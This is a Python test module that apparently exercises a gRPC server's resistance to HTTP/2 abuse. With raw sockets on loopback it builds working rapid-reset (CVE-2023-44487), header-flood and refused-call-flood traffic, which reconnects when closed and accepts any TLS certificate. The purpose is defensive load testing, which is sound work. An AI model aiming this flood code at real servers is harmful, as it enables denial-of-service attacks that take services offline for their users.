"""An outsider's HTTP/2 connections, written from RFC 7540/7541 with raw sockets (loopback only).

Each connection sends the preface, its SETTINGS (and an ACK of the server's), then gRPC calls
as bare HEADERS frames without a token, which the server refuses (UNAUTHENTICATED). HPACK is
its simplest form: every header a literal without indexing, no Huffman coding.

`StreamFlood` opens calls as fast as it can on a few connections, each reset at once by a
RST_STREAM (rapid reset, CVE-2023-44487) or left open (header flood), and reconnects when the
server closes a connection, over TLS where the server speaks it (any certificate accepted:
an outsider needs none); it runs as its own process (`python -m tests.h2_attack`), at the
lowest CPU priority, standing in for an attacker on another machine.
"""
from __future__ import annotations

import socket
import ssl
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, GOAWAY = 0x1, 0x3, 0x4, 0x7
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL = 0x8


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """The 9-byte frame header (length, type, flags, stream id) and the payload."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _literal(name: bytes, value: bytes) -> bytes:
    assert len(name) < 127 and len(value) < 127
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def call_headers(port: int, stream: int, end_stream: bool = True, scheme: bytes = b"http",
                 path: bytes = b"/fedcore.Fedcore/Connect", metadata: tuple = ()) -> bytes:
    """A HEADERS frame opening a call (by default fedcore's Connect) as client 1, with no token
    unless `metadata` (more (name, value) headers) brings one (and, by default, no body)."""
    block = b"".join(_literal(n, v) for n, v in [
        (b":method", b"POST"), (b":scheme", scheme), (b":path", path),
        (b":authority", f"127.0.0.1:{port}".encode()), (b"content-type", b"application/grpc"),
        (b"te", b"trailers"), (b"fedcore-client-id", b"1"), *metadata])
    return frame(HEADERS, END_HEADERS | (END_STREAM if end_stream else 0), stream, block)


def idle_connections(port: int, n: int, source: str = "127.0.0.1") -> list[socket.socket]:
    """`n` HTTP/2 connections from the loopback address `source`, each past its preface and
    SETTINGS, then silent."""
    conns = []
    for _ in range(n):
        s = socket.create_connection(("127.0.0.1", port), timeout=10, source_address=(source, 0))
        s.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
        conns.append(s)
    return conns


def closed_by_server(s: socket.socket) -> bool:
    """Whether the server has closed `s` (what it sent before is read and dropped)."""
    s.setblocking(False)
    try:
        while True:
            if not s.recv(65536):
                return True
    except BlockingIOError:
        return False
    except OSError:   # reset
        return True


class RefusedCallFlood:
    """`n` connections, each sending a refused call every `every` seconds, reopened when the
    server closes them; runs on a thread until `stop()` (or `limit` seconds)."""

    def __init__(self, port: int, n: int, every: float, limit: float = 180.0):
        self.port, self.n, self.every, self.limit = port, n, every, limit
        self.calls = self.reopened = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def start(self) -> "RefusedCallFlood":
        self._thread.start()
        return self

    def stop(self) -> None:
        self._stop.set()
        self._thread.join(30)

    def _open(self):
        s = socket.socket()
        s.setblocking(False)
        s.connect_ex(("127.0.0.1", self.port))
        return [s, 1, False]   # socket, next stream id, preface sent

    def _send(self, conn) -> bool:
        s, stream, greeted = conn
        data = b"" if greeted else PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0)
        try:
            try:
                while s.recv(65536):   # what the server said: read and dropped
                    pass
            except BlockingIOError:
                pass
            s.send(data + call_headers(self.port, stream))
        except OSError:   # not connected yet, or closed by the server
            return False
        conn[1], conn[2] = stream + 2, True
        self.calls += 1
        return True

    def _run(self) -> None:
        started = time.monotonic()
        conns = [self._open() for _ in range(self.n)]
        while not self._stop.is_set() and time.monotonic() - started < self.limit:
            for i, conn in enumerate(conns):
                if not self._send(conn) and conn[2]:   # closed by the server: open another
                    conn[0].close()
                    conns[i] = self._open()
                    self.reopened += 1
            self._stop.wait(self.every)
        for conn in conns:
            conn[0].close()


def _goaways(data: bytes) -> tuple[int, bytes]:
    """GOAWAY frames among the whole frames of `data`, and the bytes of the frame it cuts."""
    n, at = 0, 0
    while at + 9 <= len(data):
        end = at + 9 + int.from_bytes(data[at:at + 3], "big")
        if end > len(data):
            break
        n += data[at + 3] == GOAWAY
        at = end
    return n, data[at:]


def tls_context() -> ssl.SSLContext:
    """An outsider's TLS: HTTP/2 by ALPN, any server certificate accepted."""
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)   # no system roots loaded: none is checked
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    return ctx


# reading a socket that has nothing yet: plain sockets raise the first, TLS ones the others
_NOTHING_YET = (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError)


class StreamFlood:
    """`conns` connections opening token-less calls in batches of `batch` as fast as the socket
    takes them: each reset at once (`reset=True`, rapid reset) or left open (header flood),
    over TLS where `tls`. A connection the server closes is reopened. Counts calls opened,
    connections closed by the server, GOAWAY frames seen, and each connection's span (when
    its preface was sent and when its close was seen, `time.monotonic()`: the system's clock,
    which another process can set against the times it paused this one)."""

    def __init__(self, port: int, conns: int, reset: bool, batch: int = 100, tls: bool = False,
                 stop: threading.Event | None = None):
        self.port, self.conns, self.reset, self.batch = port, conns, reset, batch
        self.tls = tls_context() if tls else None
        self.scheme = b"https" if tls else b"http"
        self.calls = self.closed = self.goaways = self.stalled = 0
        self.spans: list[tuple[float, float]] = []
        self.stop = stop or threading.Event()

    def _open(self):
        s = socket.create_connection(("127.0.0.1", self.port), timeout=10)
        if self.tls is not None:
            s = self.tls.wrap_socket(s)   # the handshake, blocking (10 s at most)
        s.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
        return {"sock": s, "stream": 1, "opened": time.monotonic(), "rx": b""}

    def _burst(self, conn) -> bool:
        """One batch of calls on `conn`; False once the server has closed it."""
        s, data = conn["sock"], []
        for _ in range(self.batch):
            sid = conn["stream"]
            data.append(call_headers(self.port, sid, end_stream=False, scheme=self.scheme))
            if self.reset:
                data.append(frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL)))
            conn["stream"] = sid + 2
        s.setblocking(False)
        try:
            while True:   # what the server said: counted for GOAWAY, then dropped
                got = s.recv(1 << 20)
                if not got:
                    return False
                n, conn["rx"] = _goaways(conn["rx"] + got)
                self.goaways += n
        except _NOTHING_YET:
            pass
        except OSError:
            return False
        s.settimeout(10.0)
        try:   # waits while the server does not read (its backpressure), 10 s at most
            s.sendall(b"".join(data))
        except socket.timeout:   # the server read nothing for 10 s: the attacker drops the connection
            self.stalled += 1
            return False
        except OSError:
            return False
        self.calls += self.batch   # (stream ids run out after 2^30 calls: hours at this rate)
        return True

    def run(self, seconds: float) -> None:
        started = time.monotonic()
        conns = []
        while time.monotonic() - started < seconds and not self.stop.is_set():
            try:
                while len(conns) < self.conns:
                    conns.append(self._open())
            except OSError:   # refused or not accepted yet: try again in a moment
                time.sleep(0.05)
                continue
            for conn in list(conns):
                stalled = self.stalled
                if not self._burst(conn):
                    conns.remove(conn)
                    conn["sock"].close()
                    if self.stalled == stalled:   # closed by the server
                        self.closed += 1
                        self.spans.append((conn["opened"], time.monotonic()))
        for conn in conns:
            conn["sock"].close()


def main(argv=None) -> None:
    """python -m tests.h2_attack PORT (rapid-reset|header-flood) CONNS SECONDS REPORT.json [tls]

    Runs at the lowest CPU priority, standing in for an attacker on another machine: what is
    measured is what its calls cost the server, not the CPU its own process takes. Ends after
    SECONDS or on SIGTERM, then writes its counts to REPORT.json."""
    import json
    import os
    import signal
    import sys
    args = argv or sys.argv[1:]
    port, kind, conns, seconds, report = args[:5]
    os.nice(19)
    stop = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    flood = StreamFlood(int(port), int(conns), reset=kind == "rapid-reset", tls=args[5:] == ["tls"], stop=stop)
    flood.run(float(seconds))
    with open(report, "w") as fh:
        json.dump({"calls": flood.calls, "closed": flood.closed, "goaways": flood.goaways, "stalled": flood.stalled,
                   "spans": flood.spans}, fh)


if __name__ == "__main__":
    main()
